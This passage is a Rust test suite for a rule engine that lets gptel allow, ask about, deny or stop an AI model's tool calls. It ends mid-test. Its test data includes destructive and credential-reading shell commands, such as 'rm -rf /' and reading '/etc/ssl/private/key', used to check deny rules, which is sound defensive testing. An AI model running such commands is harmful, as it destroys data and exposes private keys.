//! The rule engine against DESIGN.md: every rule key, how a call is decided,
//! argument edits and re-decision, compile errors, and explanations.
//!
//! Table-driven in the manner of globset's `matches!`/`nmatches!`/`syntaxerr!`:
//! each line of a table is its own `#[test]`. Outcomes are compared whole.
//!
//! Shell parsing and path normalization have their own suites; the few cases
//! here that need them are in `mod needs_shell_and_path`.

mod common;

use gptel_rust_hooks::compile;
use gptel_rust_hooks::error::Error;
use gptel_rust_hooks::eval::{self, ArgSource, Decided, Outcome};
use gptel_rust_hooks::explain;
use gptel_rust_hooks::policy::{Options, Policy};
use gptel_rust_hooks::rule::{self, Call, Decision};
use serde_json::{json, Value as Json};
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use Decision::{Allow, Ask, Deny, Stop};

// ---------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------

/// A home directory of our own, so that no test depends on the real `~`.
fn home() -> &'static Path {
    static HOME: OnceLock<PathBuf> = OnceLock::new();
    HOME.get_or_init(|| {
        let dir = common::process_dir("gptel-rust-hooks-engine");
        std::fs::create_dir_all(dir.join("proj/src")).expect("create temp home");
        std::fs::create_dir_all(dir.join("proj-evil")).expect("create temp home");
        dir.canonicalize().expect("canonicalize temp home")
    })
}

fn options(default_decision: Option<Decision>) -> Options {
    Options {
        default_decision,
        case_fold: false,
        home: Some(home().to_path_buf()),
        ..Options::default()
    }
}

fn load_with(rules: &Json, options: Options) -> Result<Policy, Error> {
    compile::compile(rule::rules_from_value(rules)?, options)
}

fn load(rules: &Json) -> Result<Policy, Error> {
    load_with(rules, options(None))
}

fn policy(rules: Json) -> Policy {
    load(&rules).unwrap_or_else(|e| panic!("policy does not compile: {e}"))
}

fn policy_with(rules: Json, default_decision: Option<Decision>) -> Policy {
    load_with(&rules, options(default_decision))
        .unwrap_or_else(|e| panic!("policy does not compile: {e}"))
}

fn call(value: Json) -> Call {
    Call::from_value(&value).unwrap_or_else(|e| panic!("bad call: {e}"))
}

/// The compile error of RULES, as the user reads it.
fn error(rules: Json) -> String {
    match load(&rules) {
        Ok(_) => panic!("policy compiled, but should not: {rules}"),
        Err(e) => e.to_string(),
    }
}

/// An outcome without edits or result.
fn plain(
    matched: &[usize],
    decision: Option<Decision>,
    by: Option<usize>,
    reason: Option<&str>,
) -> Outcome {
    Outcome {
        decided: Decided {
            matched: matched.to_vec(),
            decision,
            by,
            unsure: Vec::new(),
        },
        decision,
        by_default: false,
        by,
        reason: reason.map(str::to_string),
        args: None,
        redecided: None,
        result: None,
        result_by: None,
        sandbox: None,
    }
}

/// The edited call's arguments as `[[KEY, VALUE], ...]` (order matters), or
/// null when nothing was edited.
fn edited_args(c: &Call, o: &Outcome) -> Json {
    match &o.args {
        None => Json::Null,
        Some(args) => Json::Array(
            eval::edited_call(c, args)
                .args
                .iter()
                .map(|(k, v)| json!([k, v.to_json()]))
                .collect(),
        ),
    }
}

/// RULE matches CALL.
macro_rules! matches {
    ($name:ident, $rule:tt, $call:tt) => {
        #[test]
        fn $name() {
            let p = policy(json!([$rule]));
            let c = call(json!($call));
            assert_eq!(
                eval::decide(&p, &c).matched,
                vec![0usize],
                "{}",
                json!($call)
            );
        }
    };
}

/// RULE does not match CALL.
macro_rules! nmatches {
    ($name:ident, $rule:tt, $call:tt) => {
        #[test]
        fn $name() {
            let p = policy(json!([$rule]));
            let c = call(json!($call));
            assert_eq!(
                eval::decide(&p, &c).matched,
                Vec::<usize>::new(),
                "{}",
                json!($call)
            );
        }
    };
}

/// RULES do not compile, with exactly this message.
macro_rules! syntaxerr {
    ($name:ident, $rules:tt, $msg:expr) => {
        #[test]
        fn $name() {
            assert_eq!(error(json!($rules)), $msg);
        }
    };
}

/// RULES edit CALL's arguments into ARGS (`[[KEY, VALUE], ...]`, or null for
/// no edit), and DECISION stands.
macro_rules! edits {
    ($name:ident, $rules:tt, $call:tt => $args:tt, $decision:expr) => {
        #[test]
        fn $name() {
            let p = policy(json!($rules));
            let c = call(json!($call));
            let o = eval::evaluate(&p, &c);
            assert_eq!((edited_args(&c, &o), o.decision), (json!($args), $decision));
        }
    };
}

/// Two matching rules, FIRST then SECOND: WINNER stands, decided by rule BY.
macro_rules! precedence {
    ($name:ident, $first:ident, $second:ident => $winner:ident, $by:expr) => {
        #[test]
        fn $name() {
            let p = policy(json!([
                {"tool": "shell", "decision": $first.name(), "reason": format!("because {}", $first)},
                {"tool": "shell", "decision": $second.name(), "reason": format!("because {}", $second)},
            ]));
            let c = call(json!({"name": "shell", "args": {"command": "ls"}}));
            let why = format!("because {}", $winner);
            assert_eq!(
                eval::evaluate(&p, &c),
                plain(&[0, 1], Some($winner), Some($by), Some(&why))
            );
        }
    };
}

// ---------------------------------------------------------------------------
// Matchers: :tool
// ---------------------------------------------------------------------------

matches!(tool_literal, {"tool": "shell"}, {"name": "shell"});
nmatches!(tool_literal_other, {"tool": "shell"}, {"name": "bash"});
matches!(tool_star_crosses_slash_and_spaces, {"tool": "rm*"}, {"name": "rm -rf /"});
nmatches!(tool_glob_is_whole_value, {"tool": "read"}, {"name": "read_file"});
nmatches!(tool_glob_is_not_substring, {"tool": "file"}, {"name": "read_file"});
matches!(tool_star_suffix, {"tool": "*_file"}, {"name": "read_file"});
matches!(tool_list_second_item, {"tool": ["read_file", "write_file"]}, {"name": "write_file"});
nmatches!(tool_list_no_item, {"tool": ["read_file", "write_file"]}, {"name": "delete_file"});
matches!(tool_alternates, {"tool": "{read,write}_file"}, {"name": "write_file"});
nmatches!(tool_alternates_other, {"tool": "{read,write}_file"}, {"name": "edit_file"});
matches!(tool_class, {"tool": "[rw]*_file"}, {"name": "write_file"});
nmatches!(tool_class_other, {"tool": "[rw]*_file"}, {"name": "delete_file"});
nmatches!(tool_negated_class, {"tool": "[!rw]*"}, {"name": "read_file"});
matches!(tool_question_mark, {"tool": "l?"}, {"name": "ls"});
nmatches!(tool_question_mark_one_char, {"tool": "l?"}, {"name": "lsx"});
matches!(tool_escaped_star, {"tool": "a\\*"}, {"name": "a*"});
nmatches!(tool_escaped_star_is_literal, {"tool": "a\\*"}, {"name": "ab"});

// ---------------------------------------------------------------------------
// Matchers: :tool-regexp
// ---------------------------------------------------------------------------

matches!(tool_regexp_unanchored, {"tool-regexp": "file"}, {"name": "read_file"});
matches!(tool_regexp_anchored_start, {"tool-regexp": "^read"}, {"name": "read_file"});
nmatches!(tool_regexp_anchored_start_other, {"tool-regexp": "^read"}, {"name": "unread"});
nmatches!(tool_regexp_anchored_whole, {"tool-regexp": "^file$"}, {"name": "read_file"});
matches!(tool_regexp_list, {"tool-regexp": ["^a$", "^b$"]}, {"name": "b"});
matches!(
    tool_and_tool_regexp_both_match,
    {"tool": "read*", "tool-regexp": "file$"},
    {"name": "read_file"}
);
// BUG: `:tool` and `:tool-regexp` are two matchers and "every matcher a rule
// gives must match"; the engine ORs them into one tool bit, so a rule
// matches when either one does.
nmatches!(
    tool_and_tool_regexp_only_regexp_matches,
    {"tool": "shell", "tool-regexp": "^read"},
    {"name": "read_file"}
);
// BUG: as above, with only `:tool` matching.
nmatches!(
    tool_and_tool_regexp_only_glob_matches,
    {"tool": "shell", "tool-regexp": "^read"},
    {"name": "shell"}
);

// BUG: `:tool ()` (an empty list) gives a tool matcher with no items; "a list
// means any of its items", so it matches no tool. The engine drops it, and
// the rule becomes one with no matcher, which matches EVERY call: an allow
// rule written with an empty tool list allows everything. Either refusing
// the rule or matching nothing would satisfy DESIGN.md.
#[test]
fn tool_empty_list_does_not_widen_an_allow_rule() {
    let rules = json!([{"tool": [], "decision": "allow"}]);
    if let Ok(p) = load(&rules) {
        let c = call(json!({"name": "shell", "args": {"command": "rm -rf /"}}));
        assert_eq!(eval::evaluate(&p, &c).decision, None);
    }
}

// ---------------------------------------------------------------------------
// Matchers: :args
// ---------------------------------------------------------------------------

matches!(args_glob, {"args": {"command": "git *"}}, {"name": "shell", "args": {"command": "git status"}});
nmatches!(args_glob_other, {"args": {"command": "git *"}}, {"name": "shell", "args": {"command": "ls"}});
nmatches!(args_glob_is_whole_value, {"args": {"command": "git"}}, {"name": "shell", "args": {"command": "git status"}});
matches!(args_glob_star_crosses_slash, {"args": {"command": "cat /etc/*"}}, {"name": "shell", "args": {"command": "cat /etc/ssl/private/key"}});
nmatches!(args_glob_missing_argument, {"args": {"command": "*"}}, {"name": "shell", "args": {"cmd": "ls"}});
matches!(args_glob_on_number, {"args": {"timeout": "5*"}}, {"name": "shell", "args": {"timeout": 5000}});
matches!(args_regexp_unanchored, {"args": {"command": {"regexp": "rm\\s+-rf"}}}, {"name": "shell", "args": {"command": "sudo rm  -rf /"}});
nmatches!(args_regexp_other, {"args": {"command": {"regexp": "rm\\s+-rf"}}}, {"name": "shell", "args": {"command": "rm -r x"}});
nmatches!(args_regexp_anchored, {"args": {"command": {"regexp": "^ls$"}}}, {"name": "shell", "args": {"command": "ls -la"}});
nmatches!(args_regexp_missing_argument, {"args": {"command": {"regexp": ""}}}, {"name": "shell", "args": {}});
matches!(args_explicit_glob, {"args": {"file": {"glob": "*.env"}}}, {"name": "read_file", "args": {"file": ".env"}});
nmatches!(args_explicit_glob_other, {"args": {"file": {"glob": "*.env"}}}, {"name": "read_file", "args": {"file": "a.envrc"}});
matches!(args_equal_string, {"args": {"mode": {"equal": "safe"}}}, {"name": "run", "args": {"mode": "safe"}});
nmatches!(args_equal_string_other, {"args": {"mode": {"equal": "safe"}}}, {"name": "run", "args": {"mode": "safer"}});
nmatches!(args_equal_is_not_a_glob, {"args": {"mode": {"equal": "*"}}}, {"name": "run", "args": {"mode": "safe"}});
matches!(args_equal_literal_star, {"args": {"mode": {"equal": "*"}}}, {"name": "run", "args": {"mode": "*"}});
matches!(args_equal_integer, {"args": {"timeout": {"equal": 5000}}}, {"name": "run", "args": {"timeout": 5000}});
nmatches!(args_equal_integer_other, {"args": {"timeout": {"equal": 5000}}}, {"name": "run", "args": {"timeout": 5001}});
nmatches!(args_equal_integer_vs_string, {"args": {"timeout": {"equal": 5000}}}, {"name": "run", "args": {"timeout": "5000"}});
matches!(args_equal_integer_vs_float, {"args": {"timeout": {"equal": 5}}}, {"name": "run", "args": {"timeout": 5.0}});
matches!(args_equal_float, {"args": {"ratio": {"equal": 0.5}}}, {"name": "run", "args": {"ratio": 0.5}});
matches!(args_equal_true, {"args": {"force": {"equal": true}}}, {"name": "run", "args": {"force": true}});
nmatches!(args_equal_true_vs_false, {"args": {"force": {"equal": true}}}, {"name": "run", "args": {"force": false}});
nmatches!(args_equal_true_vs_string, {"args": {"force": {"equal": true}}}, {"name": "run", "args": {"force": "true"}});
matches!(args_equal_false, {"args": {"force": {"equal": false}}}, {"name": "run", "args": {"force": false}});
matches!(args_equal_list, {"args": {"paths": {"equal": ["a", "b"]}}}, {"name": "run", "args": {"paths": ["a", "b"]}});
nmatches!(args_equal_list_order, {"args": {"paths": {"equal": ["a", "b"]}}}, {"name": "run", "args": {"paths": ["b", "a"]}});
nmatches!(args_equal_list_shorter, {"args": {"paths": {"equal": ["a", "b"]}}}, {"name": "run", "args": {"paths": ["a"]}});
nmatches!(args_equal_missing_argument, {"args": {"mode": {"equal": "safe"}}}, {"name": "run", "args": {}});
matches!(args_present_true, {"args": {"force": {"present": true}}}, {"name": "run", "args": {"force": false}});
nmatches!(args_present_true_absent, {"args": {"force": {"present": true}}}, {"name": "run", "args": {}});
matches!(args_present_false_absent, {"args": {"force": {"present": false}}}, {"name": "run", "args": {"other": 1}});
matches!(args_present_nil_absent, {"args": {"force": {"present": null}}}, {"name": "run", "args": {}});
nmatches!(args_present_false_present, {"args": {"force": {"present": false}}}, {"name": "run", "args": {"force": true}});
matches!(args_max_length_at_limit, {"args": {"command": {"max-length": 5}}}, {"name": "shell", "args": {"command": "hello"}});
nmatches!(args_max_length_over, {"args": {"command": {"max-length": 5}}}, {"name": "shell", "args": {"command": "hello!"}});
matches!(args_max_length_counts_characters, {"args": {"command": {"max-length": 5}}}, {"name": "shell", "args": {"command": "ééééé"}});
nmatches!(args_max_length_missing_argument, {"args": {"command": {"max-length": 5}}}, {"name": "shell", "args": {}});
matches!(args_min_at_limit, {"args": {"timeout": {"min": 10}}}, {"name": "run", "args": {"timeout": 10}});
matches!(args_min_float, {"args": {"timeout": {"min": 10}}}, {"name": "run", "args": {"timeout": 10.5}});
nmatches!(args_min_below, {"args": {"timeout": {"min": 10}}}, {"name": "run", "args": {"timeout": 9}});
nmatches!(args_min_string, {"args": {"timeout": {"min": 10}}}, {"name": "run", "args": {"timeout": "11"}});
nmatches!(args_min_missing_argument, {"args": {"timeout": {"min": 10}}}, {"name": "run", "args": {}});
matches!(args_max_at_limit, {"args": {"timeout": {"max": 10}}}, {"name": "run", "args": {"timeout": 10}});
matches!(args_max_negative, {"args": {"timeout": {"max": 10}}}, {"name": "run", "args": {"timeout": -5}});
nmatches!(args_max_above, {"args": {"timeout": {"max": 10}}}, {"name": "run", "args": {"timeout": 10.01}});
matches!(args_min_and_max_inside, {"args": {"n": {"min": 1, "max": 10}}}, {"name": "run", "args": {"n": 5}});
nmatches!(args_min_and_max_outside, {"args": {"n": {"min": 1, "max": 10}}}, {"name": "run", "args": {"n": 11}});
matches!(args_list_of_matchers_any, {"args": {"command": ["ls*", {"regexp": "^git "}]}}, {"name": "shell", "args": {"command": "git log"}});
nmatches!(args_list_of_matchers_none, {"args": {"command": ["ls*", {"regexp": "^git "}]}}, {"name": "shell", "args": {"command": "rm x"}});
matches!(args_several_keys_all_match, {"args": {"command": "ls*", "timeout": {"max": 100}}}, {"name": "shell", "args": {"command": "ls -l", "timeout": 50}});
nmatches!(args_several_keys_one_fails, {"args": {"command": "ls*", "timeout": {"max": 100}}}, {"name": "shell", "args": {"command": "ls -l", "timeout": 500}});
nmatches!(args_several_keys_one_missing, {"args": {"command": "ls*", "timeout": {"max": 100}}}, {"name": "shell", "args": {"command": "ls -l"}});
matches!(args_equal_plist, {"args": {"opts": {"equal": {"a": 1, "b": "x"}}}}, {"name": "run", "args": {"opts": {"b": "x", "a": 1}}});
nmatches!(args_equal_plist_other, {"args": {"opts": {"equal": {"a": 1}}}}, {"name": "run", "args": {"opts": {"a": 2}}});
nmatches!(args_and_tool_both_required, {"tool": "shell", "args": {"command": "ls*"}}, {"name": "eval", "args": {"command": "ls"}});

// ---------------------------------------------------------------------------
// Matchers: :buffer, :backend, :model; no matcher at all
// ---------------------------------------------------------------------------

matches!(buffer_glob, {"buffer": "*gptel*"}, {"name": "x", "buffer": "*gptel*"});
matches!(buffer_glob_star_crosses_slash, {"buffer": "~/notes/*"}, {"name": "x", "buffer": "~/notes/a/b.org"});
nmatches!(buffer_glob_whole_value, {"buffer": "notes.org"}, {"name": "x", "buffer": "notes.org<2>"});
nmatches!(buffer_missing, {"buffer": "*"}, {"name": "x"});
matches!(backend_literal, {"backend": "Claude"}, {"name": "x", "backend": "Claude"});
matches!(backend_glob, {"backend": "Chat*"}, {"name": "x", "backend": "ChatGPT"});
nmatches!(backend_other, {"backend": "Ollama"}, {"name": "x", "backend": "ChatGPT"});
matches!(backend_list, {"backend": ["Ollama", "Claude"]}, {"name": "x", "backend": "Claude"});
matches!(model_glob, {"model": "claude-*"}, {"name": "x", "model": "claude-3-5-sonnet"});
nmatches!(model_glob_whole_value, {"model": "gpt-4o"}, {"name": "x", "model": "gpt-4o-mini"});
matches!(model_star_crosses_slash, {"model": "*/llama*"}, {"name": "x", "model": "meta/llama3"});
nmatches!(model_missing, {"model": "*"}, {"name": "x", "backend": "Claude"});
nmatches!(
    buffer_backend_model_all_required,
    {"buffer": "*gptel*", "backend": "Claude", "model": "claude-*"},
    {"name": "x", "buffer": "*gptel*", "backend": "Claude", "model": "gpt-4o"}
);
matches!(no_matcher_matches_every_call, {"decision": "deny"}, {"name": "anything", "args": {"a": 1}});
matches!(no_matcher_no_args, {}, {"name": "x"});
matches!(effects_only_rule_matches, {"reason": "r", "set-args": {"a": 1}}, {"name": "x"});

// ---------------------------------------------------------------------------
// Precedence: stop > deny > ask > allow, in every pair and order
// ---------------------------------------------------------------------------

precedence!(allow_then_ask, Allow, Ask => Ask, 1);
precedence!(ask_then_allow, Ask, Allow => Ask, 0);
precedence!(allow_then_deny, Allow, Deny => Deny, 1);
precedence!(deny_then_allow, Deny, Allow => Deny, 0);
precedence!(allow_then_stop, Allow, Stop => Stop, 1);
precedence!(stop_then_allow, Stop, Allow => Stop, 0);
precedence!(ask_then_deny, Ask, Deny => Deny, 1);
precedence!(deny_then_ask, Deny, Ask => Deny, 0);
precedence!(ask_then_stop, Ask, Stop => Stop, 1);
precedence!(stop_then_ask, Stop, Ask => Stop, 0);
precedence!(deny_then_stop, Deny, Stop => Stop, 1);
precedence!(stop_then_deny, Stop, Deny => Stop, 0);
precedence!(allow_then_allow, Allow, Allow => Allow, 0);
precedence!(deny_then_deny, Deny, Deny => Deny, 0);

#[test]
fn all_four_decisions_stop_wins() {
    let p = policy(json!([
        {"decision": "allow"},
        {"decision": "deny"},
        {"decision": "stop", "reason": "halt"},
        {"decision": "ask"},
    ]));
    let c = call(json!({"name": "shell"}));
    assert_eq!(
        eval::evaluate(&p, &c),
        plain(&[0, 1, 2, 3], Some(Stop), Some(2), Some("halt"))
    );
}

#[test]
fn allow_never_undoes_deny() {
    // A narrower allow after a broad deny, and another before it.
    let p = policy(json!([
        {"tool": "shell", "args": {"command": "ls"}, "decision": "allow"},
        {"tool": "shell", "decision": "deny", "reason": "no shell"},
        {"tool": "shell", "args": {"command": "ls"}, "decision": "allow"},
    ]));
    let c = call(json!({"name": "shell", "args": {"command": "ls"}}));
    assert_eq!(
        eval::evaluate(&p, &c),
        plain(&[0, 1, 2], Some(Deny), Some(1), Some("no shell"))
    );
}

#[test]
fn allow_rule_edits_cannot_undo_deny() {
    let p = policy(json!([
        {"tool": "run", "args": {"mode": {"equal": "unsafe"}}, "decision": "deny", "reason": "unsafe"},
        {"tool": "run", "set-args": {"mode": "safe"}, "decision": "allow"},
    ]));
    let c = call(json!({"name": "run", "args": {"mode": "unsafe"}}));
    assert_eq!(
        eval::evaluate(&p, &c),
        plain(&[0, 1], Some(Deny), Some(0), Some("unsafe"))
    );
}

#[test]
fn args_matchers_of_several_rules_on_one_key_stay_apart() {
    let p = policy(json!([
        {"args": {"command": "ls*"}},
        {"args": {"command": {"regexp": "^rm"}}},
        {"args": {"command": ["x", {"glob": "l?"}]}},
        {"args": {"cmd": "ls"}},
    ]));
    let c = call(json!({"name": "shell", "args": {"command": "ls"}}));
    assert_eq!(eval::decide(&p, &c).matched, vec![0, 2]);
}

#[test]
fn non_matching_rules_do_not_count() {
    let p = policy(json!([
        {"tool": "eval", "decision": "stop"},
        {"tool": "shell", "args": {"command": "rm*"}, "decision": "deny"},
        {"tool": "shell", "decision": "allow", "reason": "shell is fine"},
    ]));
    let c = call(json!({"name": "shell", "args": {"command": "ls"}}));
    assert_eq!(
        eval::evaluate(&p, &c),
        plain(&[2], Some(Allow), Some(2), Some("shell is fine"))
    );
}

#[test]
fn rules_without_decision_do_not_decide() {
    let p = policy(json!([
        {"tool": "shell", "reason": "ignored"},
        {"tool": "shell", "decision": "ask"},
    ]));
    let c = call(json!({"name": "shell"}));
    assert_eq!(
        eval::evaluate(&p, &c),
        plain(
            &[0, 1],
            Some(Ask),
            Some(1),
            Some("gptel-rust-hooks: tool `shell` needs confirmation by rule 2")
        )
    );
}

#[test]
fn decide_collects_matches_in_rule_order() {
    let p = policy(json!([
        {"decision": "allow"},
        {"tool": "nope", "decision": "stop"},
        {"tool": "shell", "decision": "ask"},
        {"tool": "sh*", "decision": "ask"},
    ]));
    let c = call(json!({"name": "shell"}));
    assert_eq!(
        eval::decide(&p, &c),
        Decided {
            matched: vec![0, 2, 3],
            decision: Some(Ask),
            by: Some(2),
            unsure: Vec::new(),
        }
    );
}

#[test]
fn empty_policy_decides_nothing() {
    let p = policy(json!([]));
    let c = call(json!({"name": "shell"}));
    assert_eq!(eval::evaluate(&p, &c), plain(&[], None, None, None));
}

#[test]
fn nil_policy_is_empty() {
    let p = policy(Json::Null);
    assert_eq!(p.rules.len(), 0);
}

// ---------------------------------------------------------------------------
// Default decision
// ---------------------------------------------------------------------------

#[test]
fn default_decision_applies_when_no_rule_matches() {
    let p = policy_with(json!([{"tool": "other", "decision": "deny"}]), Some(Ask));
    let c = call(json!({"name": "shell"}));
    assert_eq!(
        eval::evaluate(&p, &c),
        Outcome {
            decision: Some(Ask),
            by_default: true,
            reason: Some(
                "gptel-rust-hooks: no rule decides tool `shell`; the default decision is ask"
                    .into()
            ),
            ..plain(&[], None, None, None)
        }
    );
}

#[test]
fn default_decision_applies_when_matching_rules_have_no_decision() {
    let p = policy_with(json!([{"tool": "shell", "reason": "r"}]), Some(Deny));
    let c = call(json!({"name": "shell"}));
    assert_eq!(
        eval::evaluate(&p, &c),
        Outcome {
            decision: Some(Deny),
            by_default: true,
            reason: Some(
                "gptel-rust-hooks: no rule decides tool `shell`; the default decision is deny"
                    .into()
            ),
            ..plain(&[0], None, None, None)
        }
    );
}

#[test]
fn default_decision_does_not_override_a_rule() {
    let p = policy_with(json!([{"tool": "shell", "decision": "allow"}]), Some(Deny));
    let c = call(json!({"name": "shell"}));
    assert_eq!(
        eval::evaluate(&p, &c),
        plain(
            &[0],
            Some(Allow),
            Some(0),
            Some("gptel-rust-hooks: tool `shell` allowed by rule 1")
        )
    );
}

#[test]
fn no_default_decision_leaves_gptel_alone() {
    let p = policy_with(json!([{"tool": "other", "decision": "deny"}]), None);
    let o = eval::evaluate(&p, &call(json!({"name": "shell"})));
    assert_eq!((o.decision, o.by_default, o.reason), (None, false, None));
}

#[test]
fn default_deny_drops_edits_and_result() {
    let p = policy_with(
        json!([{"tool": "shell", "set-args": {"a": 1}, "result": "canned"}]),
        Some(Deny),
    );
    let o = eval::evaluate(&p, &call(json!({"name": "shell"})));
    assert_eq!(
        (o.decision, o.by_default, o.args, o.result),
        (Some(Deny), true, None, None)
    );
}

#[test]
fn default_allow_keeps_edits_and_result() {
    let p = policy_with(
        json!([{"tool": "shell", "set-args": {"a": 1}, "result": "canned"}]),
        Some(Allow),
    );
    let c = call(json!({"name": "shell"}));
    let o = eval::evaluate(&p, &c);
    assert_eq!(
        (edited_args(&c, &o), o.decision, o.by_default, o.result),
        (
            json!([["a", 1]]),
            Some(Allow),
            true,
            Some("canned".to_string())
        )
    );
}

// ---------------------------------------------------------------------------
// Reasons
// ---------------------------------------------------------------------------

fn reason_of(rules: Json, c: Json) -> Option<String> {
    eval::evaluate(&policy(rules), &call(c)).reason
}

#[test]
fn reason_generated_names_rule_by_position() {
    assert_eq!(
        reason_of(
            json!([{"tool": "x"}, {"tool": "shell", "decision": "deny"}]),
            json!({"name": "shell"})
        ),
        Some("gptel-rust-hooks: tool `shell` denied by rule 2".into())
    );
}

#[test]
fn reason_generated_names_rule_by_id() {
    assert_eq!(
        reason_of(
            json!([{"id": "no-shell", "tool": "shell", "decision": "deny"}]),
            json!({"name": "shell"})
        ),
        Some("gptel-rust-hooks: tool `shell` denied by no-shell".into())
    );
}

#[test]
fn reason_generated_for_stop() {
    assert_eq!(
        reason_of(json!([{"decision": "stop"}]), json!({"name": "shell"})),
        Some("gptel-rust-hooks: tool `shell` stopped the request by rule 1".into())
    );
}

#[test]
fn reason_generated_for_ask() {
    assert_eq!(
        reason_of(json!([{"decision": "ask"}]), json!({"name": "shell"})),
        Some("gptel-rust-hooks: tool `shell` needs confirmation by rule 1".into())
    );
}

#[test]
fn reason_generated_for_allow() {
    assert_eq!(
        reason_of(json!([{"decision": "allow"}]), json!({"name": "shell"})),
        Some("gptel-rust-hooks: tool `shell` allowed by rule 1".into())
    );
}

#[test]
fn reason_from_first_matching_rule_with_winning_decision() {
    assert_eq!(
        reason_of(
            json!([
                {"tool": "other", "decision": "deny", "reason": "not matching"},
                {"decision": "ask", "reason": "lower decision"},
                {"decision": "deny", "reason": "first deny"},
                {"decision": "deny", "reason": "second deny"},
            ]),
            json!({"name": "shell"})
        ),
        Some("first deny".into())
    );
}

#[test]
fn reason_of_lower_decision_is_not_used() {
    assert_eq!(
        reason_of(
            json!([
                {"decision": "ask", "reason": "confirm please"},
                {"id": "wall", "decision": "deny"},
            ]),
            json!({"name": "shell"})
        ),
        Some("gptel-rust-hooks: tool `shell` denied by wall".into())
    );
}

#[test]
fn reason_generated_when_first_winning_rule_has_none() {
    // "the `:reason` of the first matching rule with that decision, else a
    // generated one that names the rule": the first deny rule has none.
    assert_eq!(
        reason_of(
            json!([
                {"decision": "deny"},
                {"decision": "deny", "reason": "later"},
            ]),
            json!({"name": "shell"})
        ),
        Some("gptel-rust-hooks: tool `shell` denied by rule 1".into())
    );
}

// ---------------------------------------------------------------------------
// Argument edits
// ---------------------------------------------------------------------------

edits!(set_args_adds,
    [{"tool": "shell", "set-args": {"timeout": 1000}}],
    {"name": "shell", "args": {"command": "ls"}}
    => [["command", "ls"], ["timeout", 1000]], None);
edits!(set_args_overwrites_in_place,
    [{"tool": "shell", "set-args": {"timeout": 1000}}],
    {"name": "shell", "args": {"timeout": 5, "command": "ls"}}
    => [["timeout", 1000], ["command", "ls"]], None);
edits!(set_args_value_types,
    [{"set-args": {"s": "x", "n": 1.5, "b": false, "l": ["a", 1], "m": {"k": "v"}}}],
    {"name": "run"}
    => [["s", "x"], ["n", 1.5], ["b", false], ["l", ["a", 1]], ["m", {"k": "v"}]], None);
edits!(default_args_adds_when_absent,
    [{"tool": "shell", "default-args": {"timeout": 30000}}],
    {"name": "shell", "args": {"command": "ls"}}
    => [["command", "ls"], ["timeout", 30000]], None);
// The Copilot example: a default timeout of 30000 never overrides 5000.
edits!(default_args_keeps_explicit_value,
    [{"tool": "shell", "default-args": {"timeout": 30000}}],
    {"name": "shell", "args": {"command": "ls", "timeout": 5000}}
    => null, None);
edits!(default_args_keeps_explicit_value_beside_other_edits,
    [{"tool": "shell", "default-args": {"timeout": 30000}, "set-args": {"shell": "bash"}, "decision": "allow"}],
    {"name": "shell", "args": {"command": "ls", "timeout": 5000}}
    => [["command", "ls"], ["timeout", 5000], ["shell", "bash"]], Some(Allow));
edits!(default_args_fills_explicit_nil,
    [{"default-args": {"timeout": 30000}}],
    {"name": "shell", "args": {"timeout": null}}
    => [["timeout", 30000]], None);
edits!(remove_args_drops,
    [{"remove-args": ["sudo"]}],
    {"name": "shell", "args": {"command": "ls", "sudo": true}}
    => [["command", "ls"]], None);
edits!(remove_args_single_string,
    [{"remove-args": "sudo"}],
    {"name": "shell", "args": {"sudo": true, "command": "ls"}}
    => [["command", "ls"]], None);
edits!(remove_args_absent_is_no_edit,
    [{"remove-args": ["sudo"]}],
    {"name": "shell", "args": {"command": "ls"}}
    => null, None);
edits!(one_rule_set_then_default,
    [{"set-args": {"a": 1}, "default-args": {"a": 2}}],
    {"name": "x"}
    => [["a", 1]], None);
edits!(one_rule_set_then_remove,
    [{"set-args": {"a": 1, "b": 2}, "remove-args": ["a"]}],
    {"name": "x", "args": {"a": 0}}
    => [["b", 2]], None);
edits!(one_rule_default_then_remove,
    [{"default-args": {"a": 2}, "remove-args": ["a"]}],
    {"name": "x", "args": {"c": 3}}
    => [["c", 3]], None);
edits!(rules_in_order_later_set_wins,
    [{"set-args": {"a": 1}}, {"set-args": {"a": 2}}],
    {"name": "x"}
    => [["a", 2]], None);
edits!(rules_in_order_set_then_default_of_later_rule,
    [{"set-args": {"a": 1}}, {"default-args": {"a": 2}}],
    {"name": "x"}
    => [["a", 1]], None);
edits!(rules_in_order_remove_then_default_of_later_rule,
    [{"remove-args": ["a"]}, {"default-args": {"a": 9}}],
    {"name": "x", "args": {"a": 1}}
    => [["a", 9]], None);
edits!(rules_in_order_default_then_remove_of_later_rule,
    [{"default-args": {"a": 1}}, {"remove-args": ["a"]}],
    {"name": "x", "args": {"b": 1}}
    => [["b", 1]], None);
edits!(edits_of_non_matching_rules_do_not_apply,
    [{"tool": "other", "set-args": {"a": 1}}, {"tool": "x", "set-args": {"b": 2}}],
    {"name": "x"}
    => [["b", 2]], None);
edits!(edits_of_rules_with_any_decision_all_apply,
    [{"decision": "allow", "set-args": {"a": 1}}, {"decision": "ask", "set-args": {"b": 2}}, {"set-args": {"c": 3}}],
    {"name": "x"}
    => [["a", 1], ["b", 2], ["c", 3]], Some(Ask));
edits!(edits_apply_under_allow,
    [{"decision": "allow", "set-args": {"a": 1}}],
    {"name": "x"}
    => [["a", 1]], Some(Allow));
edits!(edits_apply_under_ask,
    [{"decision": "ask", "set-args": {"a": 1}}],
    {"name": "x"}
    => [["a", 1]], Some(Ask));
edits!(edits_not_applied_under_deny,
    [{"set-args": {"a": 1}}, {"decision": "deny"}],
    {"name": "x"}
    => null, Some(Deny));
edits!(edits_not_applied_under_stop,
    [{"decision": "stop", "set-args": {"a": 1}, "remove-args": ["b"]}],
    {"name": "x", "args": {"b": 2}}
    => null, Some(Stop));
edits!(edits_of_rules_matching_only_the_edited_call_do_not_apply,
    [{"set-args": {"a": 1}}, {"args": {"a": {"equal": 1}}, "set-args": {"b": 2}}],
    {"name": "x"}
    => [["a", 1]], None);

#[test]
fn edit_outcome_whole() {
    let p = policy(json!([
        {"tool": "shell", "decision": "allow", "default-args": {"timeout": 30000}},
        {"tool": "shell", "remove-args": ["sudo"]},
    ]));
    let c = call(json!({"name": "shell", "args": {"sudo": true, "command": "ls"}}));
    let again = Decided {
        matched: vec![0, 1],
        decision: Some(Allow),
        by: Some(0),
        unsure: Vec::new(),
    };
    assert_eq!(
        eval::evaluate(&p, &c),
        Outcome {
            args: Some(vec![
                ("command".into(), ArgSource::Original(1)),
                ("timeout".into(), ArgSource::New(json!(30000))),
            ]),
            redecided: Some(again),
            ..plain(
                &[0, 1],
                Some(Allow),
                Some(0),
